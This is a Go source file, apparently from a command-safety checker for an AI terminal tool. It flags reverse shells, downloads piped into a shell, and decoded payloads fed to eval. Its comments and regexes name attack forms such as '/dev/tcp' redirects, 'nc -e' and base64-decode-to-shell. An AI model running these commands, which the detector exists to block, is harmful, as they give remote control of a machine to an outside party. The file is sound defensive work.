package danger

import (
	"regexp"
	"strings"

	"github.com/mcp-terminal/mcp-terminal/security/internal/shell"
	"mvdan.cc/sh/v3/syntax"
)

// Reverse shells (a shell whose input and output are a network socket) and
// code that is decoded or fetched before a shell runs it.

// netClients are programs whose stdout is a network peer.
var netClients = shell.Set("nc", "ncat", "netcat", "socat", "telnet", "openssl", "cryptcat")

// decoders turn text into other text no reader of the command line can see:
// piping their output into a shell runs code nobody reviewed.
func isDecoder(c shell.Command) bool {
	o := shell.ParseOpts(c.Args[1:], "w")
	switch c.Name {
	case "base64", "base32", "basenc":
		return o.Has("dD", "decode")
	case "xxd":
		return o.Has("r", "revert")
	case "openssl":
		ops := shell.Lits(o.Operands)
		return len(ops) > 0 && (ops[0] == "enc" || ops[0] == "base64" || strings.HasPrefix(ops[0], "aes") || strings.HasPrefix(ops[0], "des")) && hasWord(c.Args, "-d")
	case "rev", "uudecode", "gunzip", "zcat", "xzcat", "bzcat":
		return true
	case "gzip", "xz", "bzip2", "zstd":
		return o.Has("d", "decompress")
	case "tr":
		// rot13: tr 'A-Za-z' 'N-ZA-Mn-za-m'
		return len(o.Operands) == 2 && strings.Contains(o.Operands[1].S, "N-Z")
	}
	return false
}

// runsStdin: a shell, source or interpreter that executes what arrives on
// its stdin, including bash /dev/stdin and source /dev/stdin.
func runsStdin(c shell.Command) bool {
	if readsCodeFromStdin(c) {
		return true
	}
	if !shell.ShellPrograms[c.Name] && c.Name != "source" && c.Name != "." && !shell.PythonProgram.MatchString(c.Name) && !scriptInterps[c.Name] {
		return false
	}
	ops := shell.ParseOpts(c.Args[1:], "o").Operands
	if len(ops) == 0 {
		return false
	}
	switch ops[0].S {
	case "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0", "-":
		return true
	}
	return false
}

// checkStreamPipeline judges a pipeline as a whole: a network client and a
// shell reading its stdin in one pipeline (the mkfifo reverse shell), a
// download or a decoder feeding a shell.
// A decoder's output that was known and judged as code is not hidden.
func checkStreamPipeline(stages []*syntax.Stmt, judged map[*syntax.Stmt]bool) Verdict {
	var net, fetched, decoded, shellIn bool
	for _, s := range stages {
		call, ok := s.Cmd.(*syntax.CallExpr)
		if !ok {
			// (curl …) | bash, { base64 -d x; } | sh: what a group prints.
			f, d := groupFeeds(s)
			fetched, decoded = fetched || f, decoded || d
			continue
		}
		c, ok := shell.BuildCommand(call)
		if !ok {
			continue
		}
		switch {
		case runsStdin(c):
			if fetched {
				return hit("pipe-to-shell")
			}
			if decoded && !judged[s] {
				return hit("decode-to-shell")
			}
			shellIn = shellIn || shell.ShellPrograms[c.Name]
		case netClients[c.Name] && (c.Name != "openssl" || hasWord(c.Args, "s_client")):
			net = true
		case shell.Downloaders[c.Name]:
			fetched = true
		case isDecoder(c):
			decoded = true
		}
	}
	return hitIf(net && shellIn, "reverse-shell")
}

// checkDecodedArgs: eval "$(echo … | base64 -d)", bash -c "$(xxd -r -p f)",
// bash <(… | rev).
func checkDecodedArgs(c shell.Command) Verdict {
	if c.Name != "eval" && c.Name != "source" && c.Name != "." && !shell.ShellPrograms[c.Name] {
		return Verdict{}
	}
	for _, w := range c.Args[1:] {
		if w.Node == nil {
			continue
		}
		found := false
		syntax.Walk(w.Node, func(n syntax.Node) bool {
			if call, ok := n.(*syntax.CallExpr); ok && !found {
				if inner, ok := shell.BuildCommand(call); ok && isDecoder(inner) {
					found = true
				}
			}
			return !found
		})
		if found {
			return hit("decode-to-shell")
		}
	}
	return Verdict{}
}

// checkSocketRedirects flags input that ties a shell to /dev/tcp or /dev/udp:
// bash -i >& /dev/tcp/h/p 0>&1, exec 5<>/dev/tcp/h/p with a shell or a
// `$line` loop reading fd 5. A bare port probe (: </dev/tcp/h/p) passes.
func checkSocketRedirects(root syntax.Node) Verdict {
	var socket, runner bool
	syntax.Walk(root, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.Redirect:
			p := shell.ResolveWord(n.Word).S
			if strings.HasPrefix(p, "/dev/tcp/") || strings.HasPrefix(p, "/dev/udp/") {
				socket = true
			}
		case *syntax.CallExpr:
			if c, ok := shell.BuildCommand(n); ok {
				_, hasC := shell.DashC(c.Args[1:], 'c', "command")
				runner = runner || (shell.ShellPrograms[c.Name] && !hasC) || strings.Contains(c.Name, shell.DynMark)
			}
		}
		return true
	})
	return hitIf(socket && runner, "reverse-shell")
}

// checkNetcat: nc -e PROG / -c CMD hands the connection to a program.
func checkNetcat(c shell.Command, _ int) Verdict {
	for _, w := range c.Args[1:] {
		a := w.S
		if a == "--exec" || a == "--sh-exec" || a == "--lua-exec" || strings.HasPrefix(a, "--exec=") || strings.HasPrefix(a, "--sh-exec=") {
			return hit("reverse-shell")
		}
		if len(a) > 1 && a[0] == '-' && a[1] != '-' && strings.ContainsAny(a, "ec") {
			return hit("reverse-shell")
		}
	}
	return Verdict{}
}

// checkSocat: an EXEC: or SYSTEM: address runs a program on the connection.
func checkSocat(c shell.Command, _ int) Verdict {
	for _, w := range c.Args[1:] {
		a := strings.ToLower(w.S)
		if strings.HasPrefix(a, "exec:") || strings.HasPrefix(a, "system:") {
			return hit("reverse-shell")
		}
	}
	return Verdict{}
}

var (
	socketCode = regexp.MustCompile(`(?i)socket|fsockopen|tcpsocket|net\.socket|io::socket|/dev/tcp/|/inet/tcp/|\.connect\(`)
	shellCode  = regexp.MustCompile(`(?i)/bin/(?:ba|z|da|k)?sh\b|["'](?:ba|z)?sh["']|\b(?:ba)?sh -i\b|cmd\.exe|pty\.spawn`)
)

// connectCode opens an outgoing connection; runCode runs a command line. A
// one-liner doing both is a command loop fed by the peer, shell or not.
var (
	connectCode = regexp.MustCompile(`(?i)\.connect\(|create_connection|PeerAddr|TCPSocket\.(?:new|open)|fsockopen|socket\.tcp\(|/dev/tcp/|/inet/tcp/`)
	runCode     = regexp.MustCompile(`(?i)\bsystem\b|\bexec(?:Sync)?\b|popen|check_output|subprocess|child_process|\bspawn|shell=True|os\.execute`)
)

// reverseShellCode reports whether an interpreter's one-liner (perl, python,
// php, ruby, node, lua) opens a socket and runs a shell, or connects out and
// runs commands: both hand this machine to the peer.
func reverseShellCode(code string) bool {
	return socketCode.MatchString(code) && shellCode.MatchString(code) || connectCode.MatchString(code) && runCode.MatchString(code)
}

// groupFeeds reports whether a subshell or brace group in a pipeline runs a
// download or a decoder whose output becomes the group's output.
func groupFeeds(s *syntax.Stmt) (fetched, decoded bool) {
	switch s.Cmd.(type) {
	case *syntax.Subshell, *syntax.Block:
	default:
		return false, false
	}
	syntax.Walk(s, func(n syntax.Node) bool {
		if call, ok := n.(*syntax.CallExpr); ok {
			if c, ok := shell.BuildCommand(call); ok {
				fetched = fetched || shell.Downloaders[c.Name]
				decoded = decoded || isDecoder(c)
			}
		}
		return true
	})
	return fetched, decoded
}
